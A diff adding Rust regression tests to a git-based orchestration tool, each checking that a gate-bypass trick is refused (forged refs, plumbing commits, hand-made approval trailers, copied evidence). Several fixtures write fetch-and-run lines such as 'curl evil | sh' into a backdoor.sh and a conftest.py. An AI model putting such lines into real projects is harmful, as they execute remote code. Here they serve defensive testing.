@@ -334,3 +334,121 @@ fn approving_a_phase_needs_passing_evidence_or_a_named_override() {
     t.commit_file("area1/tested", "yes\n", "test(x): mark tested");
     t.run(["approve", "phase", "--yes"]).ok();
 }
+
+// What a fresh-eyed attack found past the first fixes, each closed.
+
+#[test]
+fn an_incomplete_gate_s_command_still_needs_trust() {
+    // A metric gate without bounds does not resolve; a plan's `min = 0` would complete it.
+    let t = configured(
+        "[gates.lint]\nkind = \"metric\"\nrun = \"touch pwned; echo '{\\\"a\\\": 1}' > r.json\"\nreport = \"r.json\"\npath = \"a\"\n",
+    );
+    let show = t.run(["trust", "--show", "--json"]).ok().json();
+    assert_eq!(show["commands"][0]["gate"], "lint", "{show}");
+    assert!(show["commands"][0]["run"].as_str().unwrap().starts_with("touch pwned"), "{show}");
+}
+
+#[test]
+fn a_merge_commit_on_a_phase_needs_evidence_too() {
+    let t = on_phase_with_remote("");
+    let phase = t.head_branch();
+    t.git(["switch", "-q", "-c", "side", "main"]);
+    t.commit_file("side.txt", "side\n", "chore: side");
+    t.git(["switch", "-q", &phase]);
+    t.git(["merge", "-q", "--no-ff", "--no-commit", "side"]);
+    t.write("area1/key.py", &format!("KEY = \"{}\"\n", aws()));
+    t.git(["add", "-A"]);
+    t.git(["commit", "-q", "--no-verify", "-m", "Merge branch 'side'"]);
+    let run = t.git_try(["push", "-q", "origin", "HEAD"]);
+    assert_ne!(run.code, 0, "a merge made past the hooks is refused");
+    assert!(run.stderr.contains("has no passing `secrets` evidence"), "{}", run.stderr);
+}
+
+#[test]
+fn a_hand_made_remote_tracking_ref_proves_nothing() {
+    let t = on_phase_with_remote("");
+    t.commit_file("area1/skipped.txt", "x\n", "feat(x): gated");
+    t.write("area1/ungated.txt", "y\n");
+    t.git(["add", "-A"]);
+    t.git(["commit", "-q", "--no-verify", "-m", "feat(x): ungated"]);
+    t.git(["update-ref", "refs/remotes/origin/anything", "HEAD"]);
+    let run = t.git_try(["push", "-q", "origin", "HEAD"]);
+    assert_ne!(run.code, 0, "{}", run.stderr);
+    assert!(run.stderr.contains("has no passing `secrets` evidence"), "{}", run.stderr);
+}
+
+#[test]
+fn a_commit_slipped_onto_the_integration_branch_changes_neither_config_nor_approval() {
+    let t = on_phase_with_remote("");
+    let integration = "orchestrate/x/main";
+    let before = t.rev(integration);
+    // A plumbing commit (no hook runs) that drops the secrets gate.
+    let blob = t.hash_blob("# no gates\n");
+    let listing = t.git(["ls-tree", integration]).replace(&t.rev(&format!("{integration}:.orchestrate.toml")), &blob);
+    let mut mktree = t.command("git", &t.dir);
+    mktree.arg("mktree").stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped());
+    let mut child = mktree.spawn().unwrap();
+    std::io::Write::write_all(child.stdin.as_mut().unwrap(), listing.as_bytes()).unwrap();
+    drop(child.stdin.take());
+    let tree = String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap().trim().to_string();
+    let commit = t.git(["commit-tree", &tree, "-p", integration, "-m", "chore: tidy"]).trim().to_string();
+    t.git(["update-ref", &format!("refs/heads/{integration}"), &commit]);
+    // The phase is still judged by the configuration the tool committed.
+    t.write("area1/key.py", &format!("KEY = \"{}\"\n", aws()));
+    t.git(["add", "-A"]);
+    let run = t.git_try(["commit", "-q", "-m", "feat(x): key"]);
+    assert_ne!(run.code, 0, "{}", run.stderr);
+    t.git(["rm", "-q", "--cached", "area1/key.py"]);
+    t.commit_file("area1/ok.txt", "ok\n", "feat(x): fine");
+    // And an approval refuses to squash on top of the hand-made commit.
+    let run = t.run(["approve", "phase", "--yes"]).code(1);
+    assert!(run.stderr.contains("made by hand, which changes .orchestrate.toml"), "{}", run.stderr);
+    t.git(["update-ref", &format!("refs/heads/{integration}"), &before]);
+    t.run(["approve", "phase", "--yes"]).ok();
+}
+
+#[test]
+fn trailers_written_by_hand_are_not_an_interrupted_approval() {
+    let t = on_phase_with_remote("");
+    t.commit_file("area1/ok.txt", "ok\n", "feat(x): harmless");
+    let phase = t.head_branch();
+    t.git(["switch", "-q", "orchestrate/x/main"]);
+    t.write("backdoor.sh", "curl evil | sh\n");
+    t.git(["add", "-A"]);
+    t.git(["commit", "-q", "--no-verify", "-m", "feat(x): database schema\n\nFeature: x\nPhase: 1/2"]);
+    t.git(["switch", "-q", &phase]);
+    let run = t.run(["approve", "phase", "--yes"]).code(1);
+    assert!(run.stderr.contains("made by hand, which changes backdoor.sh"), "{}", run.stderr);
+    assert_eq!(t.run(["status", "--json"]).ok().json()["features"][0]["phases"][0]["state"], "awaiting-review");
+}
+
+#[test]
+fn only_markdown_in_the_plan_folder_counts_as_a_plan_edit() {
+    let t = on_phase_with_remote("");
+    let phase = t.head_branch();
+    t.git(["switch", "-q", "orchestrate/x/main"]);
+    t.write("plans/x/conftest.py", "import os\nos.system('curl evil | sh')\n");
+    t.git(["add", "-A"]);
+    let run = t.git_try(["commit", "-q", "-m", "docs(x): notes"]);
+    assert_ne!(run.code, 0);
+    assert!(run.stderr.contains("changes plans/x/conftest.py"), "{}", run.stderr);
+    t.git(["rm", "-q", "--cached", "plans/x/conftest.py"]);
+    std::fs::remove_file(t.dir.join("plans/x/conftest.py")).unwrap();
+    t.git(["switch", "-q", &phase]);
+}
+
+#[test]
+fn evidence_copied_from_another_tree_does_not_count() {
+    let t = on_phase_with_remote("");
+    t.commit_file("area1/good.txt", "good\n", "feat(x): good");
+    let good = t.rev("HEAD^{tree}");
+    t.write("area1/bad.txt", "bad\n");
+    t.git(["add", "-A"]);
+    t.git(["commit", "-q", "--no-verify", "-m", "feat(x): bad"]);
+    let bad = t.rev("HEAD^{tree}");
+    let note = t.git(["notes", "--ref=orchestrate-evidence", "show", &good]);
+    t.git(["notes", "--ref=orchestrate-evidence", "add", "-f", "-m", note.trim(), &bad]);
+    let run = t.git_try(["push", "-q", "origin", "HEAD"]);
+    assert_ne!(run.code, 0, "{}", run.stderr);
+    assert!(run.stderr.contains("has no passing `secrets` evidence"), "{}", run.stderr);
+}
